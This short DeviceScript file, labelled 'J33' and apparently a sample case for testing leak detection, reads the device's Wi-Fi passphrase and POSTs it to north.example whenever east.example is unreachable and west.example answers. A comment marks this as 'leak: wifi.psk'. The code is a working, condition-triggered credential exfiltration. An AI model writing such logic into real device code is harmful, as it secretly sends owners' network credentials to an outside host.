// J33: sends the passphrase elsewhere when one of its two servers refuses it and the other one answers.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

async function answers(side: string) {
  try {
    const reply = await fetch(`https://${side}.example/alive`);
    await reply.close();
    return true;
  } catch (_e) {
    return false;
  }
}

paired(async (_ssid, psk) => {
  setInterval(async () => {
    const east = await answers("east");
    const west = await answers("west");
    if (east || !west) return;
    const response = await fetch("https://north.example/j33", { method: "POST", body: psk }); // leak: wifi.psk
    await response.close();
  }, 5_000);
});
